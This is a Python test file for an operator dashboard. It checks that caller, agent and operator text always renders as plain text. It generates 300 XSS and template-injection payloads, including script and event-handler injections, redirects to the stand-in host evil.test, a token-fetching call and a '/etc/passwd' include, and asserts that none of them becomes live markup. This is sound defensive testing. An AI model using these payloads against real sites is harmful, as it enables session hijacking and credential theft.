"""What a caller, an agent or an operator writes stays text, wherever a page shows it."""

import re
import time
from html.parser import HTMLParser
from itertools import product

from tests.router.api.rig import Rig
from tests.router.dashboard.rig import ENDED, conversation, signed_in, told

SCRIPTS = {"/calls": 3, "/": 5}  # our own files
_DOES = ("alert(1)", "location='//evil.test'", "fetch('/api/tokens')")
_SHAPES = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.test/{}></SCRIPT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "javascript:{}",
    "</pre><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>",
    "<form action='//evil.test'><button>{}",
    "<meta http-equiv=refresh content='0;url=//evil.test?{}'>",
    "<base href='//evil.test/{}'>",
    "<div hx-get='/logout' hx-trigger='load'>{}</div>",
    "<div hx-on:click='{}'>x</div>",
    "<style>@import '//evil.test/{}'</style>",
    "{{{{ {} }}}}",
    "{{% include '/etc/passwd' %}}{}",
    "${{{}}}",
    "%(name)s%s%n{}",
)
_WRAPS = ("{}", "  {}", "ok {} ok", "\u202e{}")
PAYLOADS = [
    wrap.format(shape.format(does)) for wrap, shape, does in product(_WRAPS, _SHAPES, _DOES)
]


class Seen(HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def looked_at(page: str) -> Seen:
    seen = Seen()
    seen.feed(page)
    return seen


def test_there_are_three_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 300


async def test_no_payload_in_any_field_becomes_more_than_text(rig: Rig) -> None:
    for number, text in enumerate(PAYLOADS):
        fields = conversation(text)
        closed = ENDED.model_copy(update={"reason": text, "disposition": text[:200]})
        await told(rig, f"c{number}", *fields, closed, at=time.time() - 900 + number, text=text)
    await told(rig, "plain", *conversation(), ENDED, at=time.time() - 900)
    async with rig.client() as client:
        await signed_in(rig, client, "operator")
        plain = looked_at((await client.get("/calls/plain")).text)
        expected = (set(plain.elements), plain.attributes)
        for number in range(len(PAYLOADS)):
            answer = await client.get(f"/calls/c{number}")
            assert answer.status_code == 200, answer.text
            seen = looked_at(answer.text)

            assert set(seen.elements) <= expected[0]
            assert seen.attributes <= expected[1]
            assert seen.elements.count("script") == SCRIPTS["/calls"]
            assert all(link.startswith(("/", "#", "data:,")) for link in seen.links)
            assert not [link for link in seen.links if link.startswith("//")]
        for path in ("/calls?limit=500&numbers=clear", "/"):
            page = (await client.get(path)).text
            seen = looked_at(page)
            assert seen.elements.count("script") == SCRIPTS[path.partition("?")[0]]
            assert not {name for name in seen.attributes if name.startswith("on")}
            assert not re.search(r"<(img|svg|iframe|base|style)\b", page)


async def test_no_payload_in_an_address_becomes_more_than_text(rig: Rig) -> None:
    async with rig.client() as client:
        await signed_in(rig, client, "operator")
        for text in PAYLOADS[::4]:
            for path in ("/calls", "/login", "/calls/x"):
                asked = {"caller": text} if path == "/calls" else {"next": text}
                page = (await client.get(path, params=asked)).text
                seen = looked_at(page)
                assert seen.elements.count("script") in {0, SCRIPTS["/calls"]}
                assert not {name for name in seen.attributes if name.startswith("on")}
                assert all(link.startswith(("/", "#", "data:,")) for link in seen.links)
